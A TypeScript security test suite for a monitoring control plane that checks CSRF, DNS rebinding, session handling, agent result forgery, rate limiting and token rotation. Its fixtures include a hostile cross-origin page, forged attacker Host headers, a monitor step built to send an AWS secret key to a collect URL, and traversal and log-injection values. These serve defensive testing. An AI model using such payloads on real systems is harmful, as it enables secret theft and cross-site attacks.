// Issue 12, the control-plane half: a web page cannot drive the control plane (Host, Origin, content type,
// sessions, CSRF), an agent is trusted with nothing it was not given (results, times, floods, uploads), and
// the lifecycle (token rotation and revocation, deletion, retention, file modes). Real Chromium for the
// cross-origin attempts, real HTTP servers on 127.0.0.1, a fake clock for time.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtemp, readdir, readFile, rm, stat } from 'node:fs/promises';
import { createServer, request as httpRequest, type Server } from 'node:http';
import { request as httpsRequest } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it, type TestContext } from 'node:test';
import type { Browser } from 'playwright-core';
import WebSocket from 'ws';
import { launchBrowser } from '../../engine/browser/launch.ts';
import { agentPaths } from '../../engine/schema/protocol.ts';
import { runControlPlaneCommand } from '../../control-plane/control-plane-command.ts';
import { startControlPlane, type ControlPlane, type ControlPlaneOptions } from '../../control-plane/server.ts';
import { FakeAgent, FakeClock, sha256, tryUpgrade } from '../helpers/fake-agent.ts';

const adminToken = 'admin-secret-for-security-tests';

/** The fields of API answers these tests read (each answer has some of them; a wrong shape fails the assertion). */
interface ApiBody {
  id: string;
  token: string;
  error: { code: string; message: string };
  runs: { runId: string }[];
  result: unknown;
  refusedResults: number;
  instances: { id: string; running: number }[];
  disconnected: string[];
  alerts: unknown[];
  checkpoints: { name: string }[];
  monitors: { name: string }[];
}

interface Plane {
  cp: ControlPlane;
  clock: FakeClock;
  dataDir: string;
  logs: string[];
  /** An API call from a non-browser client (no Origin): with the admin token unless `headers` says otherwise. */
  call(method: string, path: string, body?: unknown, headers?: Record<string, string>): Promise<{ status: number; body: ApiBody; headers: Headers }>;
  agent(token: string, instanceId: string): Promise<FakeAgent>;
}

/** A control plane on 127.0.0.1 port 0 with a fake clock; `loopbackAdmin` starts it without an admin token. */
async function plane(t: TestContext, options: Partial<ControlPlaneOptions> = {}, loopbackAdmin = false): Promise<Plane> {
  const dataDir = await mkdtemp(join(tmpdir(), 'cp-security-'));
  const clock = options.clock instanceof FakeClock ? options.clock : new FakeClock();
  const logs: string[] = [];
  const base: ControlPlaneOptions = { dataDir, clock, log: (line) => logs.push(line), tickIntervalMs: 3_600_000, heartbeatIntervalMs: 600_000 };
  if (!loopbackAdmin) base.adminToken = adminToken;
  const cp = await startControlPlane({ ...base, ...options });
  const agents: FakeAgent[] = [];
  t.after(async () => {
    await cp.close();
    await Promise.all(agents.map((agent) => agent.kill()));
    await rm(dataDir, { recursive: true, force: true });
  });
  const token = loopbackAdmin ? undefined : (options.adminToken ?? adminToken);
  return {
    cp,
    clock,
    dataDir,
    logs,
    call: async (method, path, body, headers = token === undefined ? {} : { Authorization: `Bearer ${token}` }) => {
      const response = await fetch(`${cp.url}${path}`, {
        method,
        headers: { ...(body === undefined ? {} : { 'Content-Type': 'application/json' }), ...headers },
        ...(body === undefined ? {} : { body: typeof body === 'string' ? body : JSON.stringify(body) }),
      });
      const text = await response.text();
      let parsed: unknown = text;
      try {
        parsed = text === '' ? undefined : JSON.parse(text);
      } catch {
        // HTML or empty: kept as text.
      }
      return { status: response.status, body: parsed as ApiBody, headers: response.headers };
    },
    agent: async (agentToken, instanceId) => {
      const agent = await FakeAgent.connect({ baseUrl: cp.url, token: agentToken, instanceId });
      agents.push(agent);
      return agent;
    },
  };
}

function monitor(name: string, checkpoint: string, extra: Record<string, unknown> = {}) {
  return { name, checkpoint, intervalSeconds: 60, script: { name, steps: [{ name: 'Open', actions: [{ type: 'navigate', url: 'http://intranet.example/' }] }] }, ...extra };
}

/** A raw HTTP request with headers fetch() will not send (a forged Host). */
function rawRequest(url: string, options: { method: string; headers: Record<string, string | number>; body?: string }): Promise<{ status: number; text: string }> {
  return new Promise((resolve, reject) => {
    const req = httpRequest(url, { method: options.method, headers: options.headers }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => (text += chunk));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, text }));
    });
    req.on('error', reject);
    req.end(options.body);
  });
}

async function names(p: Plane, path: string, key: 'checkpoints' | 'monitors'): Promise<string[]> {
  const reply = await p.call('GET', path);
  assert.equal(reply.status, 200, JSON.stringify(reply.body));
  return reply.body[key].map((item) => item.name).sort();
}

/** A page on another origin (another port of 127.0.0.1) that the test points Chromium at. */
async function attackerSite(t: TestContext, html: string): Promise<string> {
  const server: Server = createServer((_req, res) => {
    res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
    res.end(html);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.after(() => new Promise<void>((resolve) => server.close(() => resolve())));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
}

let browser: Browser;
before(async () => {
  browser = await launchBrowser();
});
after(async () => {
  await browser.close();
});

describe('control plane: a web page cannot drive it', () => {
  it('refuses cross-origin fetch() and form posts from a real page in Chromium, without an admin token, and nothing changes', async (t) => {
    const p = await plane(t, {}, true);
    assert.equal((await p.call('POST', '/api/v1/checkpoints', { name: 'intranet' })).status, 201, 'a local client without Origin (curl, the CLI) is the admin');
    const exfiltrate = monitor('Exfiltrate', 'intranet', { script: { name: 'x', steps: [{ name: 'Leak', actions: [{ type: 'navigate', url: 'http://127.0.0.1:9/collect?k={{secret.AWS_SECRET_ACCESS_KEY}}' }] }] } });
    const cp = p.cp.url;
    const page = await attackerSite(
      t,
      `<!doctype html><html><body>
<form id="plain" method="post" action="${cp}/api/v1/checkpoints" enctype="text/plain" target="sink"><input name='{"name":"evil-plain-form","x":"' value='"}'></form>
<form id="urlencoded" method="post" action="${cp}/api/v1/monitors" target="sink"><input name="name" value="evil-form"></form>
<iframe name="sink"></iframe>
<script>
window.attempts = (async () => {
  const outcomes = [];
  const attempt = async (label, path, init) => {
    try { const r = await fetch(${JSON.stringify(cp)} + path, init); outcomes.push(label + ':' + r.type + ':' + r.status); }
    catch (error) { outcomes.push(label + ':blocked'); }
  };
  await attempt('text-plain-checkpoint', '/api/v1/checkpoints', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: JSON.stringify({ name: 'evil-text' }) });
  await attempt('text-plain-monitor', '/api/v1/monitors', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: ${JSON.stringify(JSON.stringify(exfiltrate))} });
  await attempt('form-data-checkpoint', '/api/v1/checkpoints', { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ name: 'evil-urlencoded' }) });
  await attempt('json-cors', '/api/v1/checkpoints', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ name: 'evil-json' }) });
  await attempt('drain', '/api/v1/checkpoints/intranet/drain', { method: 'POST', mode: 'no-cors' });
  await attempt('delete', '/api/v1/checkpoints/intranet', { method: 'DELETE', mode: 'no-cors' });
  return outcomes;
})();
</script></body></html>`,
    );
    const context = await browser.newContext();
    t.after(() => context.close());
    const tab = await context.newPage();
    const refusals: number[] = [];
    tab.on('response', (response) => {
      if (response.url().startsWith(cp)) refusals.push(response.status());
    });
    await tab.goto(page);
    const outcomes = await tab.evaluate(() => (window as unknown as { attempts: Promise<string[]> }).attempts);
    assert.equal(outcomes.length, 6);
    for (const form of ['plain', 'urlencoded']) {
      const answered = tab.waitForResponse((response) => response.url().startsWith(cp) && response.request().method() === 'POST');
      await tab.evaluate((id) => (document.getElementById(id) as HTMLFormElement).submit(), form);
      assert.equal((await answered).status(), 403, `the ${form} form post is refused`);
    }
    assert.ok(refusals.length >= 2 && refusals.every((status) => status === 403), `every request that reached the control plane was refused: ${refusals.join(', ')}`);
    assert.deepEqual(await names(p, '/api/v1/checkpoints', 'checkpoints'), ['intranet'], 'no checkpoint was created or deleted');
    assert.deepEqual(await names(p, '/api/v1/monitors', 'monitors'), [], 'no monitor was created');

    // Without sign-in, the loopback browser still gets a session, so the dashboard's forms carry a CSRF token.
    const own = await context.newPage();
    await own.goto(`${cp}/`);
    const session = (await context.cookies(cp)).find((cookie) => cookie.name === 'checkpoint_session');
    assert.deepEqual([session?.httpOnly, session?.sameSite], [true, 'Strict']);
  });

  it('answers no request whose Host header names another host (DNS rebinding), and accepts the configured ones', async (t) => {
    const p = await plane(t, { allowedHosts: ['cp.example.internal'] }, true);
    const port = new URL(p.cp.url).port;
    const body = JSON.stringify({ name: 'rebound' });
    for (const host of [`attacker.example:${port}`, `127.0.0.1.attacker.example:${port}`, 'attacker.example']) {
      const post = await rawRequest(`${p.cp.url}/api/v1/checkpoints`, { method: 'POST', headers: { Host: host, 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) }, body });
      assert.equal(post.status, 421, `POST with Host ${host}`);
      const read = await rawRequest(`${p.cp.url}/api/v1/checkpoints`, { method: 'GET', headers: { Host: host } });
      assert.equal(read.status, 421, `GET with Host ${host}: a rebound page cannot read either`);
      assert.equal((await rawRequest(`${p.cp.url}/`, { method: 'GET', headers: { Host: host } })).status, 421, 'nor the dashboard');
    }
    assert.equal(await tryUpgrade(p.cp.url.replace('127.0.0.1', 'localhost'), {}), 401, 'localhost is a loopback name: the upgrade reaches the token check');
    const foreignUpgrade = await new Promise<number>((resolve) => {
      const socket = new WebSocket(`${p.cp.url.replace(/^http/, 'ws')}${agentPaths.websocket}`, { headers: { Host: 'attacker.example' } });
      socket.once('unexpected-response', (_req, res) => resolve(res.statusCode ?? 0));
      socket.once('error', () => resolve(-1));
    });
    assert.equal(foreignUpgrade, 421);
    assert.deepEqual(await names(p, '/api/v1/checkpoints', 'checkpoints'), []);
    for (const host of [`localhost:${port}`, `[::1]:${port}`, `cp.example.internal:${port}`, `CP.Example.Internal.:${port}`]) {
      const ok = await rawRequest(`${p.cp.url}/api/v1/checkpoints`, { method: 'GET', headers: { Host: host } });
      assert.equal(ok.status, 200, `Host ${host} is allowed`);
    }
  });

  it('answers a malformed dashboard address with 400, not a server error', async (t) => {
    const p = await plane(t);
    const reply = await p.call('GET', '/monitors/%E0');
    assert.equal(reply.status, 400);
    assert.ok(!p.logs.some((line) => /URIError/.test(line)), 'no stack trace in the log');
  });

  it('requires application/json on the JSON API (415), for admins with the token too', async (t) => {
    const p = await plane(t);
    const asText = await p.call('POST', '/api/v1/checkpoints', JSON.stringify({ name: 'intranet' }), { Authorization: `Bearer ${adminToken}`, 'Content-Type': 'text/plain' });
    assert.equal(asText.status, 415);
    assert.equal(asText.body.error.code, 'unsupported-media-type');
    const asForm = await p.call('POST', '/api/v1/checkpoints', 'name=intranet', { Authorization: `Bearer ${adminToken}`, 'Content-Type': 'application/x-www-form-urlencoded' });
    assert.equal(asForm.status, 415);
    assert.deepEqual(await names(p, '/api/v1/checkpoints', 'checkpoints'), []);
    assert.equal((await p.call('POST', '/api/v1/checkpoints', { name: 'intranet' })).status, 201, 'JSON is accepted');
    const origin = await p.call('POST', '/api/v1/checkpoints', { name: 'other' }, { Authorization: `Bearer ${adminToken}`, Origin: 'http://127.0.0.1:1' });
    assert.equal(origin.status, 403, 'a foreign Origin is refused even with the token');
    const sameSite = await p.call('POST', '/api/v1/checkpoints', { name: 'other' }, { Authorization: `Bearer ${adminToken}`, 'Sec-Fetch-Site': 'same-site' });
    assert.equal(sameSite.status, 403, 'another port of the same host is another origin');
    const own = await p.call('POST', '/api/v1/checkpoints', { name: 'other' }, { Authorization: `Bearer ${adminToken}`, Origin: p.cp.url, 'Sec-Fetch-Site': 'same-origin' });
    assert.equal(own.status, 201, 'its own origin may');
  });

  it('signs in by POST into a random server-side session that expires and can be ended, with CSRF-proof forms', async (t) => {
    const p = await plane(t, { session: { maxAgeMs: 3_600_000, idleMs: 1_800_000 } });
    const context = await browser.newContext();
    t.after(() => context.close());
    const tab = await context.newPage();

    // The old way (token in a GET URL) no longer signs anyone in.
    await tab.goto(`${p.cp.url}/login?token=${adminToken}`);
    assert.equal(new URL(tab.url()).pathname, '/login');
    assert.deepEqual(
      (await context.cookies()).filter((cookie) => cookie.name === 'checkpoint_session'),
      [],
    );
    assert.equal(await tab.locator('form[method=post] input[name=csrf]').count(), 1);

    await tab.fill('#token', 'wrong-token');
    await Promise.all([tab.waitForLoadState(), tab.click('button[type=submit]')]);
    assert.match(await tab.content(), /That token is not right/);
    await tab.fill('#token', adminToken);
    await Promise.all([tab.waitForURL(`${p.cp.url}/`), tab.click('button[type=submit]')]);
    const session = (await context.cookies()).find((cookie) => cookie.name === 'checkpoint_session');
    assert.ok(session !== undefined);
    assert.deepEqual([session.httpOnly, session.sameSite, session.secure], [true, 'Strict', false]);
    assert.ok(session.expires > 0, 'the cookie has an expiry');
    assert.notEqual(session.value, sha256(new TextEncoder().encode(`checkpoint-dashboard-session:${adminToken}`)), 'not derived from the token');
    assert.match(session.value, /^[A-Za-z0-9_-]{43}$/);
    const cookie = `checkpoint_session=${session.value}`;
    assert.equal((await p.call('GET', '/api/v1/checkpoints', undefined, { Cookie: cookie })).status, 200, 'the session reads the API (artifact images)');
    assert.equal((await p.call('POST', '/api/v1/checkpoints', { name: 'x' }, { Cookie: cookie })).status, 401, 'but changes nothing through it');

    // A second sign-in gets another random session.
    const second = await fetch(`${p.cp.url}/login`);
    const pre = /checkpoint_login=([^;]+)/.exec(second.headers.get('set-cookie') ?? '')?.[1] ?? '';
    const csrf = /name="csrf" value="([^"]+)"/.exec(await second.text())?.[1] ?? '';
    const signIn = (fields: Record<string, string>, preCookie = pre) =>
      fetch(`${p.cp.url}/login`, { method: 'POST', redirect: 'manual', headers: { Cookie: `checkpoint_login=${preCookie}`, 'Content-Type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams(fields).toString() });
    assert.equal((await signIn({ token: adminToken })).status, 403, 'a sign-in without the form token is refused (login CSRF)');
    assert.equal((await signIn({ token: adminToken, csrf }, 'another-cookie')).status, 403, 'a form token bound to another cookie too');
    const other = await signIn({ token: adminToken, csrf });
    assert.equal(other.status, 303);
    const otherValue = /checkpoint_session=([^;]+)/.exec(other.headers.getSetCookie().join('\n'))?.[1];
    assert.ok(otherValue !== undefined && otherValue !== session.value);

    // Sign-out is a form with the session's CSRF token: without it, nothing happens.
    const forged = await fetch(`${p.cp.url}/logout`, { method: 'POST', redirect: 'manual', headers: { Cookie: cookie, 'Content-Type': 'application/x-www-form-urlencoded' }, body: 'csrf=guess' });
    assert.equal(forged.status, 403);
    assert.equal((await p.call('GET', '/api/v1/checkpoints', undefined, { Cookie: cookie })).status, 200, 'still signed in');
    await tab.goto(`${p.cp.url}/logout`);
    await Promise.all([tab.waitForURL(`${p.cp.url}/login`), tab.click('button[type=submit]')]);
    assert.equal((await p.call('GET', '/api/v1/checkpoints', undefined, { Cookie: cookie })).status, 401, 'the old cookie is dead after sign-out');
    assert.equal((await fetch(`${p.cp.url}/`, { redirect: 'manual', headers: { Cookie: cookie } })).status, 303);

    // The other session expires: idle, then absolute.
    const otherCookie = `checkpoint_session=${otherValue}`;
    assert.equal((await p.call('GET', '/api/v1/checkpoints', undefined, { Cookie: otherCookie })).status, 200);
    p.clock.advance(1_800_000);
    assert.equal((await p.call('GET', '/api/v1/checkpoints', undefined, { Cookie: otherCookie })).status, 401, 'idle for 30 min: gone');
  });

  it('refuses a sign-in form posted from another origin in Chromium', async (t) => {
    const p = await plane(t);
    const page = await attackerSite(
      t,
      `<!doctype html><form id="f" method="post" action="${p.cp.url}/login"><input name="token" value="${adminToken}"><input name="csrf" value="x"></form>`,
    );
    const context = await browser.newContext();
    t.after(() => context.close());
    const tab = await context.newPage();
    await tab.goto(page);
    const answered = tab.waitForResponse((response) => response.url().startsWith(p.cp.url));
    await tab.evaluate(() => (document.getElementById('f') as HTMLFormElement).submit());
    assert.equal((await answered).status(), 403);
    assert.deepEqual(
      (await context.cookies()).filter((cookie) => cookie.name === 'checkpoint_session'),
      [],
    );
  });

  it('sends HSTS and Secure cookies under TLS, keeps the security headers, and refuses an empty admin token or a non-loopback bind without one', async (t) => {
    const dir = await mkdtemp(join(tmpdir(), 'cp-security-tls-'));
    t.after(() => rm(dir, { recursive: true, force: true }));
    await assert.rejects(startControlPlane({ dataDir: join(dir, 'a'), adminToken: '', log: () => undefined }), /adminToken: expected a token, got an empty string/);
    await assert.rejects(startControlPlane({ dataDir: join(dir, 'b'), host: '0.0.0.0', log: () => undefined }), /without an admin token the control plane listens on loopback only/);
    let stderr = '';
    const io = { stdout: () => undefined, stderr: (text: string) => void (stderr += text) };
    assert.equal(await runControlPlaneCommand({ adminToken: '', data: join(dir, 'c') }, io, Promise.resolve()), 2);
    assert.match(stderr, /--admin-token is empty/);
    assert.equal(await runControlPlaneCommand({ host: '0.0.0.0', data: join(dir, 'd') }, io, Promise.resolve()), 2);
    assert.match(stderr, /without an admin token the control plane listens on loopback only/);

    const certFile = join(dir, 'cert.pem');
    const keyFile = join(dir, 'key.pem');
    try {
      execFileSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-days', '1', '-subj', '/CN=127.0.0.1', '-addext', 'subjectAltName=IP:127.0.0.1', '-keyout', keyFile, '-out', certFile], { stdio: 'ignore' });
    } catch {
      t.skip('openssl is not available to make a test certificate');
      return;
    }
    const ca = await readFile(certFile);
    const cp = await startControlPlane({ dataDir: join(dir, 'tls'), adminToken, tls: { certFile, keyFile }, log: () => undefined, tickIntervalMs: 3_600_000 });
    t.after(() => cp.close());
    const get = (path: string) =>
      new Promise<{ status: number; headers: Record<string, string | string[] | undefined> }>((resolve, reject) => {
        const req = httpsRequest(`${cp.url}${path}`, { ca }, (res) => {
          res.resume();
          res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers }));
        });
        req.on('error', reject);
        req.end();
      });
    const login = await get('/login');
    assert.equal(login.status, 200);
    assert.match(String(login.headers['strict-transport-security']), /max-age=\d+/);
    assert.match(String(login.headers['set-cookie']), /; Secure/);
    assert.match(String(login.headers['content-security-policy']), /default-src 'none'/);
    assert.equal(login.headers['x-content-type-options'], 'nosniff');
    assert.equal(login.headers['x-frame-options'], 'SAMEORIGIN');
    const api = await get('/api/v1/checkpoints');
    assert.equal(api.status, 401);
    assert.match(String(api.headers['strict-transport-security']), /max-age=\d+/);
  });
});

describe('control plane: nothing from an agent is trusted', () => {
  it('stores results only for runs dispatched to that checkpoint and instance, counting and logging the refusals boundedly', async (t) => {
    const p = await plane(t);
    const token = (await p.call('POST', '/api/v1/checkpoints', { name: 'intranet' })).body.token;
    const otherToken = (await p.call('POST', '/api/v1/checkpoints', { name: 'other' })).body.token;
    const a = await p.agent(token, 'a');
    const b = await p.agent(token, 'b');
    const { id } = (await p.call('POST', '/api/v1/monitors', monitor('Login', 'intranet'))).body;
    const runs = await Promise.race([a.next('run').then((run) => ({ run, owner: a, other: b })), b.next('run').then((run) => ({ run, owner: b, other: a }))]);
    const { run, owner, other } = runs;

    const byOther = await other.postResult(other.envelope(run, { status: 'failed' }));
    assert.equal(byOther.status, 403, 'the sibling instance may not settle the run');
    // The real agent sends its instance header: an envelope naming another instance is refused.
    const lying = await fetch(`${p.cp.url}${agentPaths.results}`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json', 'X-Checkpoint-Instance': other.instanceId },
      body: JSON.stringify(owner.envelope(run, { status: 'failed' })),
    });
    assert.equal(lying.status, 403);
    await lying.body?.cancel();

    const outsider = new FakeAgentLike(p.cp.url, otherToken, 'x');
    assert.equal((await outsider.post(owner.envelope(run, { status: 'passed' }))).status, 403, 'another checkpoint may not');
    const forged = (n: number) => owner.envelope({ runId: `forged-${n}`, monitorId: id, attempt: 1 }, { status: 'failed' });
    for (let n = 0; n < 50; n++) assert.equal((await owner.postResult(forged(n))).status, 403);
    const runIds = ((await p.call('GET', `/api/v1/monitors/${id}/runs?limit=1000`)).body.runs as { runId: string }[]).map((r) => r.runId);
    assert.deepEqual(runIds, [run.runId], 'no forged run was stored');
    assert.equal((await p.call('GET', `/api/v1/runs/${run.runId}`)).body.result, null, 'and the real one is still unsettled');
    assert.equal((await owner.postResult(owner.envelope(run, { status: 'passed' }))).status, 200, 'its own instance settles it');
    const refusedLines = p.logs.filter((line) => line.includes('refused a result from intranet'));
    assert.ok(refusedLines.length >= 1 && refusedLines.length <= 10, `refusals are logged boundedly: ${refusedLines.length} lines for 52`);
    assert.equal((await p.call('GET', '/api/v1/checkpoints/intranet')).body.refusedResults, 52, 'two by the wrong instance, fifty forged');
  });

  it('clamps an agent`s times: a result dated 2099 is refused for a run never dispatched, clamped for one that was, and scheduling goes on after a restart', async (t) => {
    const dataDir = await mkdtemp(join(tmpdir(), 'cp-security-restart-'));
    t.after(() => rm(dataDir, { recursive: true, force: true }));
    const options = { dataDir, adminToken, log: () => undefined, tickIntervalMs: 3_600_000, heartbeatIntervalMs: 600_000, startupGraceMs: 1000 };
    const clock = new FakeClock(Date.now());
    const first = await startControlPlane({ ...options, clock });
    const admin = { Authorization: `Bearer ${adminToken}`, 'Content-Type': 'application/json' };
    const created = (await (await fetch(`${first.url}/api/v1/checkpoints`, { method: 'POST', headers: admin, body: JSON.stringify({ name: 'intranet' }) })).json()) as { token: string };
    await fetch(`${first.url}/api/v1/monitors`, { method: 'POST', headers: admin, body: JSON.stringify({ ...monitor('Login', 'intranet'), id: 'login', intervalSeconds: 60 }) });
    await fetch(`${first.url}/api/v1/monitors`, { method: 'POST', headers: admin, body: JSON.stringify({ ...monitor('Search', 'intranet'), id: 'search', intervalSeconds: 60, enabled: false }) });
    const a = await FakeAgent.connect({ baseUrl: first.url, token: created.token, instanceId: 'a' });
    const run = await a.next('run');
    const future = '2099-01-01T00:00:00.000Z';
    const dated = (envelope: ReturnType<FakeAgent['envelope']>) => ({ ...envelope, finishedAt: future, result: { ...envelope.result, startedAt: future } });
    const forged = await a.postResult(dated(a.envelope({ runId: 'forged-2099', monitorId: 'search', attempt: 1 }, { status: 'passed' })));
    assert.equal(forged.status, 403);
    assert.equal((await a.postResult(dated(a.envelope(run, { status: 'passed' })))).status, 200);
    const stored = (await (await fetch(`${first.url}/api/v1/runs/${run.runId}`, { headers: admin })).json()) as { run: { finishedAt: string } };
    assert.ok(Date.parse(stored.run.finishedAt) <= clock.wallNow().getTime(), `finishedAt clamped to now: ${stored.run.finishedAt}`);
    await first.close();
    await a.kill();

    // Restart; the monitor that the forged result tried to hold back is enabled and runs on its interval.
    clock.advance(61_000);
    const second = await startControlPlane({ ...options, clock });
    t.after(() => second.close());
    await fetch(`${second.url}/api/v1/monitors/search`, {
      method: 'PUT',
      headers: admin,
      body: JSON.stringify({ ...monitor('Search', 'intranet'), intervalSeconds: 60, enabled: true }),
    });
    const b = await FakeAgent.connect({ baseUrl: second.url, token: created.token, instanceId: 'b', capacity: 4 });
    t.after(() => b.kill());
    const dispatched = new Set([(await b.next('run')).monitorId, (await b.next('run')).monitorId]);
    assert.deepEqual([...dispatched].sort(), ['login', 'search']);
  });

  it('rate-limits the REST API per client with 429 and Retry-After; made-up tokens share their address`s limit', async (t) => {
    const p = await plane(t, { rateLimit: { perSecond: 0.001, burst: 6 } });
    const agentToken = (await p.call('POST', '/api/v1/checkpoints', { name: 'limited' })).body.token;
    const statuses: number[] = [];
    for (let n = 0; n < 7; n++) statuses.push((await p.call('GET', '/api/v1/checkpoints')).status);
    assert.deepEqual(statuses, [200, 200, 200, 200, 200, 429, 429]);
    const limited = await p.call('GET', '/api/v1/checkpoints');
    assert.ok(Number(limited.headers.get('retry-after')) >= 1);
    // A valid token is a client of its own (an agent behind the same address keeps working)…
    assert.notEqual((await p.call('HEAD', `/api/v1/artifacts/${'0'.repeat(64)}`, undefined, { Authorization: `Bearer ${agentToken}` })).status, 429);
    // …a made-up one is not: a fresh token per request must not escape the limit, nor guess tokens at full speed.
    const invented: number[] = [];
    for (let n = 0; n < 10; n++) invented.push((await fetch(`${p.cp.url}/healthz`, { headers: { Authorization: `Bearer invented-${n}` } })).status);
    assert.deepEqual(invented, [200, 200, 200, 200, 200, 200, 429, 429, 429, 429], 'ten made-up tokens from one address share its burst of 6');
  });

  it('never sends an agent a monitor its protocol cannot carry: an invalid id in a PUT URL is refused, and the control plane stays up', async (t) => {
    const p = await plane(t);
    const token = (await p.call('POST', '/api/v1/checkpoints', { name: 'ids' })).body.token;
    await p.agent(token, 'a');
    for (const id of ['L'.repeat(250), '..%2F..%2Fx%0D%0Ay%20%3Cb%3Ez%22']) {
      const reply = await p.call('PUT', `/api/v1/monitors/${id}`, monitor('Bad id', 'ids'));
      assert.equal(reply.status, 400, JSON.stringify(reply.body));
      assert.match(reply.body.error.message, /^id: /);
    }
    assert.deepEqual(await names(p, '/api/v1/monitors', 'monitors'), []);
    assert.equal((await p.call('PUT', '/api/v1/monitors/good-id', monitor('Good id', 'ids'))).status, 201);
    await p.cp.tick();
    assert.equal((await p.call('GET', '/api/v1/checkpoints/ids')).status, 200, 'still serving');
  });

  it('accepts the --public-url origin behind a TLS-terminating proxy, and answers to its host name', async (t) => {
    const p = await plane(t, { publicUrl: 'https://cp.example' });
    const login = await rawRequest(`${p.cp.url}/login`, {
      method: 'POST',
      headers: { Host: 'cp.example', Origin: 'https://cp.example', 'Sec-Fetch-Site': 'same-origin', 'Content-Type': 'application/x-www-form-urlencoded' },
      body: 'token=wrong&csrf=x',
    });
    assert.notEqual(login.status, 421, 'the public host is answered');
    assert.doesNotMatch(login.text, /may not change anything here/, 'the public origin is the control plane`s own');
    const foreign = await rawRequest(`${p.cp.url}/login`, {
      method: 'POST',
      headers: { Host: 'cp.example', Origin: 'https://evil.example', 'Content-Type': 'application/x-www-form-urlencoded' },
      body: 'token=wrong&csrf=x',
    });
    assert.equal(foreign.status, 403);
  });

  it('rate-limits agent messages, logs floods and invalid messages boundedly, and escapes what it logs', async (t) => {
    const p = await plane(t, { hubLimits: { messagesPerSecond: 0.001, messageBurst: 20 } });
    const token = (await p.call('POST', '/api/v1/checkpoints', { name: 'intranet' })).body.token;
    const flood = await FakeAgent.connect({ baseUrl: p.cp.url, token, instanceId: 'flood', version: '1.0' });
    t.after(() => flood.kill());
    for (let n = 0; n < 3000; n++) flood.heartbeat(n < 30 ? [] : ['r1', 'r2', 'r3']);
    for (let n = 0; n < 5000; n++) flood.socket.send('{not json');
    await new Promise((resolve) => setTimeout(resolve, 300));
    const instance = ((await p.call('GET', '/api/v1/checkpoints/intranet')).body.instances as { id: string; running: number }[]).find((i) => i.id === 'flood');
    assert.equal(instance?.running, 0, 'only the first heartbeats were processed');
    const floodLines = p.logs.filter((line) => line.includes('intranet/flood'));
    assert.ok(floodLines.length <= 20, `8000 bad or excess messages, ${floodLines.length} log lines`);

    // A monitor name and an agent version with line breaks stay on one line each.
    await p.call('POST', '/api/v1/monitors', monitor('Login\n2026-12-05T00:00:00.000Z api: forged line', 'intranet', { enabled: false }));
    const sneaky = await FakeAgent.connect({ baseUrl: p.cp.url, token, instanceId: 'sneaky', version: '1.0\r\nhub: forged' }).catch(() => undefined);
    await sneaky?.kill();
    assert.ok(p.logs.some((line) => line.includes('Login\\n2026-12-05')), 'the newline is escaped');
    assert.ok(
      p.logs.every((line) => !/[\n\r]/.test(line)),
      'no line contains a line break',
    );
  });

  it('refuses an upload announced as too large before writing a byte, and removes a streamed one that grows too large', async (t) => {
    const p = await plane(t);
    const token = (await p.call('POST', '/api/v1/checkpoints', { name: 'intranet' })).body.token;
    const tmpDir = join(p.dataDir, 'artifacts', 'tmp');
    const answer = await new Promise<number>((resolve, reject) => {
      const req = httpRequest(`${p.cp.url}${agentPaths.artifact('a'.repeat(64))}`, {
        method: 'PUT',
        headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'image/png', 'Content-Length': 101_000_000 },
      });
      req.on('response', (res) => {
        res.resume();
        resolve(res.statusCode ?? 0);
        req.destroy();
      });
      req.on('error', (error) => (String((error as NodeJS.ErrnoException).code).startsWith('E') ? undefined : reject(error)));
      req.write(Buffer.alloc(1_000_000));
      // Never finished: the old control plane would wait for the other 100 MB (and the test time out).
      setTimeout(() => resolve(-1), 5000).unref();
    });
    assert.equal(answer, 413);
    const leftovers = await readdir(tmpDir).catch(() => [] as string[]);
    assert.deepEqual(leftovers, [], 'nothing was written');
  });
});

describe('control plane: lifecycle', () => {
  it('rotates a checkpoint token with a grace period, revokes tokens, and deletes instances and checkpoints', async (t) => {
    const p = await plane(t);
    const oldToken = (await p.call('POST', '/api/v1/checkpoints', { name: 'intranet' })).body.token;
    await p.call('POST', '/api/v1/monitors', monitor('Login', 'intranet', { id: 'login', enabled: false }));
    const onOld = await p.agent(oldToken, 'on-old');
    const rotated = await p.call('POST', '/api/v1/checkpoints/intranet/token', { graceSeconds: 60 });
    assert.equal(rotated.status, 200);
    const newToken = rotated.body.token;
    assert.match(newToken, /^cpt_/);
    assert.notEqual(newToken, oldToken);
    assert.equal(await tryUpgrade(p.cp.url, { Authorization: `Bearer ${oldToken}`, 'X-Checkpoint-Instance': 'x' }), 101, 'the old token works during the grace period');
    assert.equal(await tryUpgrade(p.cp.url, { Authorization: `Bearer ${newToken}`, 'X-Checkpoint-Instance': 'x' }), 101);
    p.clock.advance(60_001);
    assert.equal(await tryUpgrade(p.cp.url, { Authorization: `Bearer ${oldToken}`, 'X-Checkpoint-Instance': 'x' }), 401, 'then it is refused');
    await p.cp.tick();
    await onOld.closed;
    const onNew = await p.agent(newToken, 'on-new');
    assert.equal((await p.call('POST', '/api/v1/checkpoints/intranet/token', undefined)).status, 200, 'a rotation without a body uses the default grace');

    const revoked = await p.call('DELETE', '/api/v1/checkpoints/intranet/token');
    assert.equal(revoked.status, 200);
    assert.deepEqual(revoked.body.disconnected, ['on-new']);
    await onNew.closed;
